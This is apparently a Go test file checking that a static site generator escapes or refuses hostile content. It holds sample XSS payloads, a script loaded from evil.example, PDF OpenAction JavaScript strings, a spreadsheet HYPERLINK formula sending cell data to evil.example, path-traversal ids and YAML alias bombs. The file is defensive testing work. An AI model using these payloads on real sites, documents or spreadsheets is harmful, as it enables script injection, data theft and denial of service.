package build_test

// Hostile input (issue #5, item 6): content is untrusted text, since anyone
// who can open a pull request can write it. The corpus in
// testdata/hostile/content passes check with a script, event-handler,
// markup-breaking, PDF-string-breaking or formula payload in every text
// field; the build must escape all of it. Ids, sizes and nesting the build
// cannot make safe must be refused with a clear error, and nothing may ever
// be written outside --out.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"golang.org/x/net/html"

	"github.com/tkpkd/tkpkd/generator/build"
	"github.com/tkpkd/tkpkd/generator/diag"
	"github.com/tkpkd/tkpkd/templates"
)

const hostileCorpus = "testdata/hostile/content"

// hostileOut is a built copy of the corpus shared by the checks of one test.
type hostileOut struct {
	root, content, out string
	files              map[string][]byte // relative to out, slash-separated
}

// hostileBuild copies the corpus into a fresh folder, lets edit change it,
// and builds it into root/out, failing if anything outside out changed.
func hostileBuild(t *testing.T, edit func(content string)) (*hostileOut, error) {
	t.Helper()
	h := &hostileOut{root: t.TempDir()}
	h.content, h.out = filepath.Join(h.root, "content"), filepath.Join(h.root, "out")
	hostileCopy(t, hostileCorpus, h.content)
	if edit != nil {
		edit(h.content)
	}
	// Snapshot the folder around root too: a write beside --out is as bad.
	parent := filepath.Dir(h.root)
	outRel := filepath.ToSlash(filepath.Join(filepath.Base(h.root), "out")) + "/"
	before := hostileSnapshot(t, parent)
	var err error
	hostileWithin(t, hostilePatience, func() {
		_, err = build.Run(context.Background(), build.Config{Content: h.content, Out: h.out, Defaults: templates.Defaults})
	})
	after := hostileSnapshot(t, parent)
	for p, sum := range after {
		if !strings.HasPrefix(p, outRel) && before[p] != sum {
			t.Errorf("build created or changed %s, outside --out", p)
		}
	}
	for p := range before {
		if _, ok := after[p]; !ok {
			t.Errorf("build removed %s, outside --out", p)
		}
	}
	if err != nil {
		if _, statErr := os.Stat(h.out); !errors.Is(statErr, fs.ErrNotExist) {
			t.Errorf("a refused build left %s behind", h.out)
		}
		return h, err
	}
	h.files = map[string][]byte{}
	for p := range after {
		if rel, ok := strings.CutPrefix(p, outRel); ok && !strings.HasSuffix(p, "/") {
			h.files[rel], _ = os.ReadFile(filepath.Join(h.out, filepath.FromSlash(rel)))
		}
	}
	return h, nil
}

func TestHostileContentIsEscaped(t *testing.T) {
	t.Parallel()
	h, err := hostileBuild(t, nil)
	if err != nil {
		t.Fatalf("the hostile corpus passes check, so it must build (escaped), got: %v", err)
	}
	hostileCheckPDFText(t, h)
	var sawHTML, sawPDF, sawCSV int
	texts := map[string]string{} // page -> its text, to see payloads kept as text
	for _, name := range hostileSorted(h.files) {
		data := h.files[name]
		switch filepath.Ext(name) {
		case ".html":
			sawHTML++
			texts[name] = hostileCheckHTML(t, name, data)
		case ".svg":
			hostileCheckSVG(t, name, data)
		case ".json":
			if !json.Valid(data) {
				t.Errorf("%s: not valid JSON", name)
			}
			if bytes.ContainsAny(data, "<>") {
				t.Errorf("%s: holds a raw < or >; JSON must escape them (\\u003c)", name)
			}
		case ".xml":
			hostileCheckXML(t, name, data)
		case ".pdf":
			sawPDF++
			hostileCheckPDF(t, name, data)
		case ".csv":
			sawCSV++
		}
	}
	if sawHTML == 0 || sawPDF == 0 || sawCSV == 0 {
		t.Fatalf("got %d HTML, %d PDF, %d CSV files; want some of each", sawHTML, sawPDF, sawCSV)
	}
	hostileCheckCSV(t, h.files)
	// Escaped, not dropped: payloads written as plain text are shown as text.
	for _, c := range [][2]string{
		{"site/rapat/rakor-2024-03/index.html", `Rakor <script>alert("meeting.title")</script>`},
		{"site/opd/dinsos/index.html", `Dinsos <script>alert(1)</script>`},
		{"site/sumber/index.html", `"><svg onload=alert("source.title")></text><script>alert(2)</script>`},
		{"site/anggaran/2024/index.html", `</text><script>alert("agency.short")</script>`},
		{"site/tentang/index.html", `Tentang <script>alert("page.title")</script>`},
	} {
		page, want := c[0], c[1]
		if !strings.Contains(texts[page], want) {
			t.Errorf("%s: the text %q is missing; it must be shown escaped, not dropped", page, want)
		}
	}
	hostileCheckPDFInfo(t, h)
}

// hostileCheckHTML parses a page as a browser would and fails on anything
// that runs script; it returns the page's text.
func hostileCheckHTML(t hostileReporter, name string, data []byte) string {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(data))
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return ""
	}
	var text strings.Builder
	for n := range doc.Descendants() {
		switch n.Type {
		case html.TextNode:
			text.WriteString(n.Data)
		case html.ElementNode:
			if slices.Contains(hostileElements, strings.ToLower(n.Data)) {
				t.Errorf("%s: a <%s> element (%s)", name, n.Data, hostileRender(n))
			}
			for _, a := range n.Attr {
				if msg := hostileAttr(n.Data, a); msg != "" {
					t.Errorf("%s: <%s %s=%q>: %s", name, n.Data, hostileAttrName(a), a.Val, msg)
				}
			}
		}
	}
	return text.String()
}

// hostileReporter is the part of *testing.T the checkers use, so a test
// can show that they catch what they must.
type hostileReporter interface {
	Helper()
	Errorf(format string, args ...any)
}

type hostileRecorder struct{ got []string }

func (r *hostileRecorder) Helper() {}
func (r *hostileRecorder) Errorf(format string, args ...any) {
	r.got = append(r.got, fmt.Sprintf(format, args...))
}

// The checkers must see what a browser would run, however it is spelled.
func TestHostileCheckersCatchScript(t *testing.T) {
	for _, page := range []string{
		`<p><script>alert(1)</script></p>`,
		`<p><SCRIPT SRC=//evil.example/x.js></SCRIPT></p>`,
		`<img src=x onerror=alert(1)>`,
		`<svg><g ONLOAD="alert(1)"></g></svg>`,
		`<a href=" java&#x09;script:alert(1)">x</a>`,
		`<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><script href="data:text/javascript,alert(1)"></script></svg>`,
		`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
		`<form action="javascript:alert(1)"><button>x</button></form>`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
		`<p style="background:url(javascript:alert(1))">x</p>`,
	} {
		var tree, tags hostileRecorder
		hostileCheckHTML(&tree, "page", []byte(page))
		hostileCheckTags(&tags, "page", []byte(page))
		if len(tree.got) == 0 || len(tags.got) == 0 {
			t.Errorf("%s: the tree check found %q and the tag check %q; want both to find it", page, tree.got, tags.got)
		}
	}
	var svg hostileRecorder
	hostileCheckSVG(&svg, "chart.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text onclick="x">x</text></a><script>alert(1)</script></svg>`))
	if len(svg.got) != 3 {
		t.Errorf("the SVG check found %q; want the link, the handler and the script", svg.got)
	}
	var clean hostileRecorder
	hostileCheckHTML(&clean, "page", []byte(`<p title="onload=alert(1)">&lt;script&gt;alert(1)&lt;/script&gt; <a href="https://example.org/?javascript:">x</a></p>`))
	if len(clean.got) > 0 {
		t.Errorf("escaped text was taken for script: %q", clean.got)
	}
}

// hostileCheckTags reads a page tag by tag, for pages nested too deep
// for a tree parser, and fails on anything that runs script.
func hostileCheckTags(t hostileReporter, name string, data []byte) {
	t.Helper()
	if len(data) == 0 {
		t.Errorf("%s was not built", name)
		return
	}
	z := html.NewTokenizer(bytes.NewReader(data))
	for {
		switch z.Next() {
		case html.ErrorToken:
			if z.Err() != io.EOF {
				t.Errorf("%s: %v", name, z.Err())
			}
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			if slices.Contains(hostileElements, tok.Data) {
				t.Errorf("%s: a <%s> element", name, tok.Data)
			}
			for _, a := range tok.Attr {
				if msg := hostileAttr(tok.Data, a); msg != "" {
					t.Errorf("%s: <%s %s=%q>: %s", name, tok.Data, hostileAttrName(a), a.Val, msg)
				}
			}
		}
	}
}

// hostileElements run, load or submit something; the site ships no script
// of its own and no inline style, so any of them came from content.
var hostileElements = []string{"script", "iframe", "object", "embed", "base", "frame", "style", "form"}

// hostileAttr says what is wrong with an attribute, or "".
func hostileAttr(elem string, a html.Attribute) string {
	key := strings.ToLower(a.Key)
	switch {
	case strings.HasPrefix(key, "on"):
		return "an event-handler attribute"
	case key == "srcdoc":
		return "an inline document"
	case elem == "meta" && key == "http-equiv":
		return "a meta refresh or header"
	case key == "style" && hostileScheme(a.Val, "expression(", "javascript:", "url("):
		return "a style that loads or runs something"
	case slices.Contains([]string{"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href"}, key) &&
		hostileScheme(a.Val, "javascript:", "vbscript:", "data:", "file:"):
		return "a script, data or file URL"
	}
	return ""
}

// hostileScheme reports whether a URL or style, read the forgiving way a
// browser reads it (entities decoded, controls and whitespace dropped, any
// case), contains one of the dangerous parts.
func hostileScheme(v string, parts ...string) bool {
	v = strings.ToLower(html.UnescapeString(v))
	v = strings.Map(func(r rune) rune {
		if r <= ' ' {
			return -1
		}
		return r
	}, v)
	for _, p := range parts {
		if strings.HasPrefix(v, p) || (strings.HasSuffix(p, "(") && strings.Contains(v, p)) {
			return true
		}
	}
	return false
}

func hostileAttrName(a html.Attribute) string {
	if a.Namespace != "" {
		return a.Namespace + ":" + a.Key
	}
	return a.Key
}

func hostileRender(n *html.Node) string {
	var b strings.Builder
	_ = html.Render(&b, n)
	return hostileShort(b.String())
}

// hostileCheckSVG parses a standalone SVG as XML and applies the HTML rules.
func hostileCheckSVG(t hostileReporter, name string, data []byte) {
	t.Helper()
	dec := xml.NewDecoder(bytes.NewReader(data))
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Errorf("%s: not well-formed XML: %v", name, err)
			return
		}
		if se, ok := tok.(xml.StartElement); ok {
			if strings.EqualFold(se.Name.Local, "script") || strings.EqualFold(se.Name.Local, "foreignObject") {
				t.Errorf("%s: a <%s> element", name, se.Name.Local)
			}
			for _, a := range se.Attr {
				key := a.Name.Local
				if a.Name.Space != "" && a.Name.Local == "href" {
					key = "xlink:href"
				}
				if msg := hostileAttr(se.Name.Local, html.Attribute{Key: key, Val: a.Value}); msg != "" {
					t.Errorf("%s: <%s %s=%q>: %s", name, se.Name.Local, key, a.Value, msg)
				}
			}
		}
	}
}

func hostileCheckXML(t *testing.T, name string, data []byte) {
	t.Helper()
	dec := xml.NewDecoder(bytes.NewReader(data))
	for {
		if _, err := dec.Token(); err == io.EOF {
			return
		} else if err != nil {
			t.Errorf("%s: not well-formed XML: %v", name, err)
			return
		}
	}
}

// hostileCheckCSV reads the column types from datapackage.json: every
// string cell that a spreadsheet would run as a formula must start with '.
func hostileCheckCSV(t *testing.T, files map[string][]byte) {
	t.Helper()
	var pkg struct {
		Resources []struct {
			Path   string
			Schema struct{ Fields []struct{ Name, Type string } }
		}
	}
	if err := json.Unmarshal(files["site/data/datapackage.json"], &pkg); err != nil {
		t.Fatalf("site/data/datapackage.json: %v", err)
	}
	types := map[string][]string{}
	for _, r := range pkg.Resources {
		for _, f := range r.Schema.Fields {
			types["site/data/"+r.Path] = append(types["site/data/"+r.Path], f.Type)
		}
	}
	neutralised := 0
	for _, name := range hostileSorted(files) {
		if filepath.Ext(name) != ".csv" {
			continue
		}
		cols, ok := types[name]
		if !ok {
			t.Errorf("%s: not described in datapackage.json", name)
		}
		records, err := csv.NewReader(bytes.NewReader(files[name])).ReadAll()
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		for i, rec := range records[1:] {
			for j, cell := range rec {
				if j < len(cols) && cols[j] != "string" || cell == "" {
					continue // numbers such as a negative difference stay numbers
				}
				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: row %d column %s: %q would run as a formula; want a leading '", name, i+2, records[0][j], hostileShort(cell))
				}
				if len(cell) > 1 && cell[0] == '\'' && strings.ContainsRune("=+-@", rune(cell[1])) {
					neutralised++
				}
			}
		}
	}
	// The corpus starts fields with =, +, - and @: they must reach the CSV.
	if neutralised < 10 {
		t.Errorf("got %d neutralised cells, want at least 10: the formula payloads did not reach the CSV", neutralised)
	}
	if want := `'=HYPERLINK("http://evil.example/?"&A1,"klik")`; !bytes.Contains(files["site/data/keputusan.csv"], []byte(strings.ReplaceAll(want, `"`, `""`))) {
		t.Errorf("site/data/keputusan.csv: want the decision text neutralised as %s", want)
	}
}

func hostileSorted(files map[string][]byte) []string {
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	slices.Sort(names)
	return names
}

func hostileShort(s string) string {
	if len(s) > 120 {
		return s[:120] + "..."
	}
	return s
}

// hostilePatience is how long one build of the corpus may take before the
// test calls it a hang. The corpus builds in seconds; the bound is minutes
// so that a busy machine running -race never reaches it.
const hostilePatience = 5 * time.Minute

// hostileWithin fails the test instead of hanging when f does not return.
func hostileWithin(t *testing.T, d time.Duration, f func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
	case <-time.After(d):
		t.Fatalf("did not finish within %s: a hang on hostile input", d)
	}
}

func hostileCopy(t *testing.T, src, dst string) {
	t.Helper()
	if err := os.CopyFS(dst, os.DirFS(src)); err != nil {
		t.Fatal(err)
	}
}

// hostileSnapshot maps every path under root (folders end in /) to a hash
// of its content, to see what a build created or changed.
func hostileSnapshot(t *testing.T, root string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == root {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		rel = filepath.ToSlash(rel)
		if d.IsDir() {
			out[rel+"/"] = "dir"
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		out[rel] = fmt.Sprintf("%x", sha256.Sum256(data))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// The corpus's payloads that land in every brief's metadata.
const (
	hostileTitle     = `Rakor <script>alert("meeting.title")</script><img src=x onerror=alert(1)> ) /Title (x`
	hostilePublisher = `TKPKD ) /Author (x) /OpenAction << /S /JavaScript /JS (app.alert(2)) >> <b onmouseover=alert(1)>`
)

// hostileCheckPDF reads a brief's raw bytes: its metadata strings must
// read back whole (a payload's ")" escaped, not ending the string), and no
// action may run script, open a file or a data URL.
func hostileCheckPDF(t *testing.T, name string, data []byte) {
	t.Helper()
	for _, tok := range []string{"/JavaScript", "/OpenAction", "/Launch", "/SubmitForm", "/ImportData"} {
		if bytes.Contains(data, []byte(tok)) {
			t.Errorf("%s: holds %s outside an escaped string", name, tok)
		}
	}
	for i := 0; ; {
		j := bytes.Index(data[i:], []byte("/URI ("))
		if j < 0 {
			break
		}
		uri, next, ok := hostilePDFString(data, i+j+len("/URI "))
		if !ok {
			t.Errorf("%s: a link's /URI string does not end", name)
			break
		}
		if hostileScheme(string(uri), "javascript:", "vbscript:", "data:", "file:") {
			t.Errorf("%s: a link to %q; want only http, https and mailto links (render/pdf must drop the others, as goldmark does in HTML)", name, uri)
		}
		i = next
	}
	info := hostilePDFInfo(data)
	if info["Author"] != hostilePublisher {
		t.Errorf("%s: /Author reads back as %q, want %q", name, info["Author"], hostilePublisher)
	}
}

// hostileCheckPDFInfo checks the meeting brief's title with the PDF
// library's own parser and, when pdfinfo is installed, with poppler's.
func hostileCheckPDFInfo(t *testing.T, h *hostileOut) {
	t.Helper()
	name := "pdf/rapat/rakor-2024-03.pdf"
	data, ok := h.files[name]
	if !ok {
		t.Fatalf("%s was not built", name)
	}
	if title := hostilePDFInfo(data)["Title"]; !strings.HasSuffix(title, ": "+hostileTitle) {
		t.Errorf("%s: /Title reads back as %q, want it to end in the meeting title %q", name, title, hostileTitle)
	}
	if _, err := exec.LookPath("pdfinfo"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("pdfinfo (poppler-utils) is required in CI")
		}
		t.Log("pdfinfo not installed (apt-get install poppler-utils): skipping poppler's reading of the metadata")
		return
	}
	out, err := exec.Command("pdfinfo", "-enc", "UTF-8", filepath.Join(h.out, filepath.FromSlash(name))).CombinedOutput()
	if err != nil {
		t.Fatalf("pdfinfo %s: %v\n%s", name, err, out)
	}
	for _, want := range []string{hostileTitle, "Author:          " + hostilePublisher + "\n"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("pdfinfo %s: want %q in\n%s", name, want, out)
		}
	}
}

// hostilePDFInfo decodes the document information dictionary that the
// trailer's /Info names.
func hostilePDFInfo(data []byte) map[string]string {
	out := map[string]string{}
	i := bytes.LastIndex(data, []byte("/Info "))
	if i < 0 {
		return out
	}
	var obj int
	if _, err := fmt.Sscanf(string(data[i+len("/Info "):min(len(data), i+30)]), "%d", &obj); err != nil {
		return out
	}
	start := bytes.Index(data, fmt.Appendf(nil, "\n%d 0 obj", obj))
	if start < 0 {
		return out
	}
	end := start + bytes.Index(data[start:], []byte("endobj"))
	for _, key := range []string{"Title", "Author", "Subject", "Keywords", "Creator", "Producer"} {
		k := bytes.Index(data[start:end], []byte("/"+key+" ("))
		if k < 0 {
			continue
		}
		if s, _, ok := hostilePDFString(data[:end], start+k+len(key)+2); ok {
			out[key] = hostilePDFText(s)
		}
	}
	return out
}

// hostilePDFString reads the PDF literal string that starts at data[i]
// ('('), undoing its escapes (ISO 32000-1 §7.3.4.2).
func hostilePDFString(data []byte, i int) ([]byte, int, bool) {
	if i >= len(data) || data[i] != '(' {
		return nil, 0, false
	}
	var out []byte
	depth := 0
	for j := i; j < len(data); j++ {
		switch c := data[j]; c {
		case '\\':
			j++
			if j >= len(data) {
				return nil, 0, false
			}
			e := data[j]
			switch {
			case e >= '0' && e <= '7':
				v, k := 0, 0
				for ; k < 3 && j+k < len(data) && data[j+k] >= '0' && data[j+k] <= '7'; k++ {
					v = v*8 + int(data[j+k]-'0')
				}
				out, j = append(out, byte(v)), j+k-1
			case e == '\n':
			case e == '\r':
				if j+1 < len(data) && data[j+1] == '\n' {
					j++
				}
			default:
				if r, ok := hostilePDFEscapes[e]; ok {
					e = r
				}
				out = append(out, e) // \( \) \\ and unknown escapes stand for themselves
			}
		case '(':
			if depth++; depth > 1 {
				out = append(out, c)
			}
		case ')':
			if depth--; depth == 0 {
				return out, j + 1, true
			}
			out = append(out, c)
		default:
			out = append(out, c)
		}
	}
	return nil, 0, false
}

var hostilePDFEscapes = map[byte]byte{'n': '\n', 'r': '\r', 't': '\t', 'b': '\b', 'f': '\f'}

// hostilePDFText decodes a text string: UTF-16BE after a byte order mark,
// else PDFDocEncoding, which matches Latin-1 for what tests need.
func hostilePDFText(s []byte) string {
	if len(s) >= 2 && s[0] == 0xFE && s[1] == 0xFF {
		var u []uint16
		for i := 2; i+1 < len(s); i += 2 {
			u = append(u, uint16(s[i])<<8|uint16(s[i+1]))
		}
		return string(utf16.Decode(u))
	}
	r := make([]rune, len(s))
	for i, b := range s {
		r[i] = rune(b)
	}
	return string(r)
}

// hostileRefusal is content the build cannot make safe: check must refuse
// it with a problem at the place that is wrong.
type hostileRefusal struct {
	name, file string
	old, new   string // new replaces old in file; with old "", new is the whole file
	mark       string // the problem's line:col is where mark starts in new; "" for the file
	want       string // in the message
	anyLine    bool   // the problem names some line:col of file
}

func hostileRefusals() []hostileRefusal {
	var cs []hostileRefusal
	// Ids become folder and file names. The loader allows [a-z0-9._-] only.
	for _, c := range [][2]string{
		{"traversal", `"../x"`},
		{"slash", `"a/b"`},
		{"absolute", `"/etc/passwd"`},
		{"drive", `'C:\x'`},
		{"backslash", `'..\..\x'`},
		{"dot-dot", `".."`},
		{"dot", `"."`},
		{"trailing-dot", `"x."`},
		{"reserved-upper", `CON`},
		{"reserved", `con`},
		{"reserved-ext", `nul.txt`},
		{"reserved-com", `com1`},
		{"fullwidth-c", `ｃon`},
		{"fullwidth-slash", `..／x`},
		{"division-slash", `a∕b`},
		{"bidi-override", "\"\u202eexe.fdp\""},
		{"nul-byte", `"a\0b"`},
		{"long", strings.Repeat("a", 300)},
		{"space", `"a b"`},
	} {
		name, id := c[0], c[1]
		cs = append(cs, hostileRefusal{name: "agency-id-" + name, file: "agencies.yaml", old: "id: setda", new: "id: " + id, mark: id, want: "is not a valid id"})
	}
	cs = append(cs,
		hostileRefusal{name: "meeting-id-traversal", file: "meetings/rakor-2024-03.yaml", old: "id: rakor-2024-03\n", new: "id: \"../../../tmp/x\"\n", mark: `"../`, want: "is not a valid id"},
		hostileRefusal{name: "decision-id-traversal", file: "meetings/rakor-2024-03.yaml", old: "id: rakor-2024-03/K01", new: `id: "rakor-2024-03/../K01"`, mark: `"rakor`, want: ""},
		// '.', '_' and '-' become the same path segment: two ids that differ
		// only there would share a page, so check must refuse the second.
		hostileRefusal{name: "agency-id-same-segment", file: "agencies.yaml", old: "    note: '<script>alert(\"agency.note\")</script>'\n",
			new: "    note: '<script>alert(\"agency.note\")</script>'\n  - {id: x-y, region: \"36\", kind: badan, name: Satu}\n  - {id: x.y, region: \"36\", kind: badan, name: Dua}\n", mark: "x.y"},
		hostileRefusal{name: "region-code-traversal", file: "regions.yaml", old: `code: "36.71"`, new: `code: "../36"`, mark: `"../36"`, want: "is not a region code"},
		hostileRefusal{name: "base-url-javascript", file: "site.yaml", old: `base_url: "https://tkpkd.example.org/"`, new: `base_url: "javascript:alert(1)//"`, mark: `"javascript`, want: "is not a web address"},
	)
	for _, c := range [][2]string{
		{"javascript", `"javascript:alert(1)"`},
		{"javascript-case", `"JaVaScRiPt:alert(1)"`},
		{"data", `"data:text/html,<script>alert(1)</script>"`},
		{"file", `"file:///etc/passwd"`},
		{"scheme-relative", `"//evil.example/x"`},
		{"vbscript", `"vbscript:msgbox(1)"`},
	} {
		name, url := c[0], c[1]
		cs = append(cs, hostileRefusal{name: "source-url-" + name, file: "sources.yaml", old: `url: "http://bps.example.org/profil"`, new: "url: " + url, mark: url, want: "is not a web address"})
	}
	// A page's file name becomes its folder.
	for _, c := range [][2]string{
		{"reserved", "CON"},
		{"fullwidth", "ｃon"},
		{"long", strings.Repeat("a", 200)},
		{"upper", "Tentang"},
	} {
		name, file := c[0], c[1]
		cs = append(cs, hostileRefusal{name: "page-name-" + name, file: "pages/" + file + ".md", new: "---\ntitle: x\n---\nx\n", want: "is not a valid page name"})
	}
	// The classic "billion laughs": lists of lists the loader never walks.
	laughs := "x: &a [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n"
	// Merge keys (<<) the loader does follow: each level reuses the one
	// before nine times, 9^9 fields in all.
	merges := "x: &a {id: lol}\n"
	for i, prev := 'b', 'a'; i <= 'j'; i, prev = i+1, i {
		laughs += fmt.Sprintf("%c: &%c [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*%c, ", prev), 9), ", "))
		merges += fmt.Sprintf("%c: &%c {<<: [%s]}\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*%c, ", prev), 9), ", "))
	}
	cs = append(cs,
		hostileRefusal{name: "alias-bomb-lists", file: "sources.yaml", new: laughs + "sources: *j\n", anyLine: true},
		hostileRefusal{name: "alias-bomb-merges", file: "sources.yaml", new: merges + "sources:\n  - <<: *j\n", want: "expand without bound", anyLine: true},
		hostileRefusal{name: "deep-flow-sequence", file: "sources.yaml", new: "sources: " + strings.Repeat("[", 10000) + strings.Repeat("]", 10000) + "\n", anyLine: true},
		hostileRefusal{name: "deep-flow-mapping", file: "sources.yaml", new: "sources: " + strings.Repeat("{a: ", 10000) + "x" + strings.Repeat("}", 10000) + "\n", anyLine: true},
	)
	return cs
}

// apply edits the content folder and returns where the problem must be.
func (c hostileRefusal) apply(t *testing.T, content string) (line, col int) {
	t.Helper()
	path := filepath.Join(content, filepath.FromSlash(c.file))
	if c.old == "" {
		if err := os.WriteFile(path, []byte(c.new), 0o644); err != nil {
			t.Fatal(err)
		}
		return 0, 0
	}
	data, err := os.ReadFile(path)
	i := bytes.Index(data, []byte(c.old))
	if err != nil || i < 0 {
		t.Fatalf("%s: cannot find %q to replace (%v)", c.file, c.old, err)
	}
	edited := string(data[:i]) + c.new + string(data[i+len(c.old):])
	if err := os.WriteFile(path, []byte(edited), 0o644); err != nil {
		t.Fatal(err)
	}
	m := i + strings.Index(c.new, c.mark)
	lineStart := strings.LastIndexByte(edited[:m], '\n') + 1
	return 1 + strings.Count(edited[:m], "\n"), 1 + utf8.RuneCountInString(edited[lineStart:m])
}

func TestHostileInputIsRefused(t *testing.T) {
	t.Parallel()
	for _, c := range hostileRefusals() {
		t.Run(c.name, func(t *testing.T) {
			var line, col int
			_, err := hostileBuild(t, func(content string) { line, col = c.apply(t, content) })
			var problems diag.List
			if !errors.As(err, &problems) {
				t.Fatalf("want the build refused with content problems, got %v", err)
			}
			for _, p := range problems {
				at := p.File == c.file && (line == 0 || p.Line == line && p.Col == col) && (!c.anyLine || p.Line > 0 && p.Col > 0)
				if at && p.Severity == diag.Error && strings.Contains(p.Msg.EN, c.want) {
					return
				}
			}
			t.Errorf("want an error at %s:%d:%d saying %q, got:\n%v", c.file, line, col, c.want, problems)
		})
	}
}

// A file over 10 MiB is refused before it is parsed.
func TestHostileHugeFileIsRefused(t *testing.T) {
	t.Parallel()
	const size = 50 << 20
	_, err := hostileBuild(t, func(content string) {
		line := []byte("Notulen yang sangat panjang <script>alert(1)</script>.\n")
		data := bytes.Repeat(line, size/len(line)+1)
		if err := os.WriteFile(filepath.Join(content, "pages", "besar.md"), data[:size], 0o644); err != nil {
			t.Fatal(err)
		}
	})
	var problems diag.List
	if !errors.As(err, &problems) || !slices.ContainsFunc(problems, func(p diag.Problem) bool {
		return p.File == "pages/besar.md" && strings.Contains(p.Msg.EN, "too large")
	}) {
		t.Fatalf("want pages/besar.md refused as too large, got %v", err)
	}
}

// Markdown is parsed at build time, not by check: 10,000-deep nesting
// must build (escaped) or be refused as a content problem, never crash a
// renderer or hang. It runs outside -race in make test (NoRace): it feeds
// goldmark 10,000-deep input to guard against quadratic parsing, and the
// race detector made it 25 s of the suite for no concurrency of ours.
func TestNoRaceHostileDeepMarkdown(t *testing.T) {
	t.Parallel()
	for _, c := range [][2]string{
		{"blockquote", strings.Repeat(">", 10000) + " deep <script>alert(1)</script>\n"},
		{"list", strings.Repeat("- ", 10000) + "deep <script>alert(1)</script>\n"},
		{"inline", strings.Repeat("*", 10000) + "x" + strings.Repeat("*", 10000) + " " +
			strings.Repeat("[", 10000) + "x" + strings.Repeat("]", 10000) + "(javascript:alert(1)) <img src=x onerror=alert(1)>\n"},
	} {
		name, minutes := c[0], c[1]
		t.Run(name, func(t *testing.T) {
			h, err := hostileBuild(t, func(content string) {
				if err := os.WriteFile(filepath.Join(content, "meetings", "rakor-2024-03.md"), []byte(minutes), 0o644); err != nil {
					t.Fatal(err)
				}
			})
			var problems diag.List
			switch {
			case errors.As(err, &problems):
				if !slices.ContainsFunc(problems, func(p diag.Problem) bool { return p.File == "meetings/rakor-2024-03.md" }) {
					t.Errorf("refused, but no problem names meetings/rakor-2024-03.md:\n%v", problems)
				}
			case err != nil:
				first, _, _ := strings.Cut(err.Error(), "\n")
				t.Fatalf("want the build to succeed or refuse with a problem in meetings/rakor-2024-03.md, got: %s", first)
			default:
				// Deeper than any HTML tree parser keeps (x/net/html and
				// browsers stop at 512 open elements): check the tags.
				page := "site/rapat/rakor-2024-03/index.html"
				hostileCheckTags(t, page, h.files[page])
			}
		})
	}
}
